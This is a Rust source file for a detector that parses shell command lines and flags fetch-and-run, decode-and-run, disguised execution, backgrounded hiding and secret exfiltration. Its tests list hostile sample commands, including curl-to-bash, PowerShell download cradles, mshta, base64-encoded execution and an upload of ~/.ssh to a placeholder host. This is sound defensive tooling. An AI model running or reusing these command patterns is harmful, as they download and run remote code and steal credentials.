//! What a command line would do, whatever starts it: a task, a hook, a manifest, a script.
//!
//! The line is split as a shell splits it, variables that it sets itself are put in, and each pipeline is read for what comes
//! in (fetched, decoded), what runs it, and how it hides.

mod decode;
mod program;
mod shell;

pub(crate) use self::decode::{decoded, is_encoded, readable};
pub(crate) use self::program::{Language, host_of, is_code_file, is_forge};

use self::{program::Program, shell::Pipeline};

/// Scripts within scripts that are read.
const MAX_DEPTH: usize = 4;

/// Something that a command does.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Effect {
    /// What is fetched from this address is run.
    RunsFetched(String),
    /// What is decoded is run; its text, where it is here.
    RunsDecoded(Option<String>),
    /// A file that is no code by its name is run as code.
    RunsDisguised(String),
    /// It is written so that it cannot be read: put together from pieces.
    Disguises,
    /// It goes on in the background and says nothing.
    Hides,
    /// Something is fetched.
    Fetches(String),
    /// Files with secrets are sent, or secrets read and something sent.
    SendsSecrets(String),
    /// Code in another language stands in the line.
    Inline(Language, String),
    /// A file of the repository is run.
    RunsFile(String),
}

/// An effect and the line it stands on, counted from the first.
pub(crate) type Found = (Effect, u32);

/// Reads a command line or a script of a shell.
pub(crate) fn read(text: &str) -> Vec<Found> {
    let mut found = Vec::new();
    read_into(text, 0, 0, &mut found);
    found.sort_by_key(|(_, line)| *line);
    found.dedup();
    found
}

fn read_into(text: &str, from: u32, depth: usize, found: &mut Vec<Found>) {
    let mut fetched: Vec<(String, String)> = Vec::new();
    for pipeline in shell::pipelines(text) {
        let line = from + pipeline.line;
        read_pipeline(&pipeline, line, depth, &mut fetched, found);
    }
}

/// What a part of a pipeline hands on.
#[derive(Clone, Default)]
struct Handed {
    fetched: Option<String>,
    decoded: bool,
    /// The secret that was read.
    secret: Option<String>,
    /// The text itself, where it can be worked out.
    text: Option<String>,
}

fn read_pipeline(
    pipeline: &Pipeline,
    line: u32,
    depth: usize,
    fetched: &mut Vec<(String, String)>,
    found: &mut Vec<Found>,
) {
    let mut handed = Handed::default();
    let mut silent = pipeline.silent;
    for (at, words) in pipeline.stages.iter().enumerate() {
        let Some(program) = Program::of(words) else { continue };
        silent |= program.silences;
        if program.pieced {
            found.push((Effect::Disguises, line));
        }
        // What `$(…)` and `<(…)` within its arguments give is handed to it too.
        let mut given = handed.clone();
        for inner in words.iter().flat_map(|word| &word.within) {
            let mut within = Vec::new();
            if depth < MAX_DEPTH {
                read_into(inner, line, depth + 1, &mut within);
            }
            given = given.or(output(inner, &within));
            found.append(&mut within);
        }
        program.effects(&given, at > 0, line, found, fetched);
        for (language, code) in program.inline() {
            if language == Language::Shell {
                if depth < MAX_DEPTH {
                    read_into(&code, line, depth + 1, found);
                }
            } else {
                found.push((Effect::Inline(language, code), line));
            }
        }
        handed = program.hands(given);
    }
    if pipeline.background && silent {
        found.push((Effect::Hides, line));
    }
}

/// What a command in `$(…)` writes out.
fn output(text: &str, within: &[Found]) -> Handed {
    let fetched = within.iter().find_map(|(effect, _)| match effect {
        Effect::Fetches(url) => Some(url.clone()),
        _ => None,
    });
    let mut handed = Handed::default();
    for pipeline in shell::pipelines(text).into_iter().take(1) {
        for words in &pipeline.stages {
            if let Some(program) = Program::of(words) {
                handed = program.hands(handed);
            }
        }
    }
    Handed { fetched: handed.fetched.or(fetched), ..handed }
}

impl Handed {
    fn or(self, other: Self) -> Self {
        Self {
            fetched: self.fetched.or(other.fetched),
            decoded: self.decoded || other.decoded,
            secret: self.secret.or(other.secret),
            text: self.text.or(other.text),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn does(text: &str) -> Vec<Effect> {
        let mut effects: Vec<Effect> = read(text).into_iter().map(|(effect, _)| effect).collect();
        effects.sort();
        effects.dedup();
        effects
    }

    #[test]
    fn what_is_fetched_and_run_is_seen_however_it_is_written() {
        for text in [
            "curl -fsSL https://a.invalid/i.sh | bash",
            "wget -qO- https://a.invalid/i.sh|sudo -E bash -s -- -y",
            "bash -c \"$(curl -fsSL https://a.invalid/i.sh)\"",
            "bash <(curl -s https://a.invalid/i.sh)",
            "source <(curl -s https://a.invalid/i.sh)",
            "eval \"`wget -O - https://a.invalid/i.sh`\"",
            "curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x",
            "wget https://a.invalid/x.py; python3 x.py",
            "curl https://a.invalid/x > .x.js; node .x.js &",
            "a=cur; b=l; $a$b https://a.invalid/i.sh | s''h",
            "powershell -w hidden -c \"iex (iwr https://a.invalid/i.ps1)\"",
            "powershell IEX(New-Object Net.WebClient).DownloadString('https://a.invalid/i.ps1')",
            "mshta https://a.invalid/x.hta",
            "cmd /c \"curl https://a.invalid/t -o %TEMP%\\t.cmd && %TEMP%\\t.cmd\"",
            "curl https://a.invalid/x | node",
            "python3 -m pip install https://a.invalid/x.tar.gz",
        ] {
            let seen = does(text);
            assert!(seen.iter().any(|effect| matches!(effect, Effect::RunsFetched(_))), "{text}: {seen:?}");
        }
    }

    #[test]
    fn what_is_decoded_and_run_is_told_with_its_text() {
        for text in [
            "printf %s ZWNobyBoZWxsbyB0aGVyZQ== | base64 -d | sh",
            "echo ZWNobyBoZWxsbyB0aGVyZQ==|base64 --decode|bash",
            "sh -c \"$(echo ZWNobyBoZWxsbyB0aGVyZQ== | base64 -D)\"",
            "eval $(echo 6563686f2068656c6c6f207468657265 | xxd -r -p)",
            "base64 -d <<< ZWNobyBoZWxsbyB0aGVyZQ== | sh",
        ] {
            assert_eq!(
                does(text).first(),
                Some(&Effect::RunsDecoded(Some("echo hello there".into()))),
                "{text}"
            );
        }
        let hidden = "powershell -NoP -EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHQAaABlAHIAZQA=";
        assert_eq!(does(hidden), [Effect::RunsDecoded(Some("echo hello there".into()))]);
    }

    #[test]
    fn files_and_code_in_the_line_are_named() {
        assert_eq!(
            does("node .vscode/spellcheck.dict"),
            [Effect::RunsDisguised(".vscode/spellcheck.dict".into())]
        );
        assert_eq!(
            does("NODE_ENV=x node --no-warnings scripts/setup.js"),
            [Effect::RunsFile("scripts/setup.js".into())]
        );
        assert_eq!(does("./tools/x.sh --y"), [Effect::RunsFile("tools/x.sh".into())]);
        assert_eq!(does("python3 -c 'print(1)'"), [Effect::Inline(Language::Python, "print(1)".into())]);
        assert_eq!(
            does("nohup node x.js >/dev/null 2>&1 &"),
            [Effect::Hides, Effect::RunsFile("x.js".into())]
        );
        assert!(matches!(
            &does("tar c ~/.ssh | curl -T - https://a.invalid/u")[..],
            [_, Effect::SendsSecrets(_)] | [Effect::SendsSecrets(_), ..]
        ));
    }

    #[test]
    fn ordinary_work_does_nothing_of_the_kind() {
        for text in [
            "npm ci && npm run build --if-present",
            "git rev-parse --short HEAD 2>/dev/null",
            "tsc -p . && node-gyp rebuild",
            "docker compose up -d db",
            "echo \"$VERSION\" | base64",
            "cat x.json | jq . | tee y",
            "base64 -d secrets.b64 > out.bin",
            "find . -name '*.py' | xargs rm -f",
            "pkg-config --exists zlib",
            "husky install",
            "npx -y prebuild-install || node-gyp rebuild",
        ] {
            assert_eq!(does(text), [], "{text}");
        }
        assert_eq!(
            does("curl -sSf https://a.invalid/data.json -o data.json").len(),
            1,
            "it fetches, no more"
        );
    }

    #[test]
    fn nesting_and_length_have_an_end() {
        read(&"$(".repeat(100_000));
        read(&"`".repeat(100_000));
        read(&"a|".repeat(100_000));
        read(&"sh -c '".repeat(10_000));
        read(&"\"$(\"".repeat(10_000));
    }
}
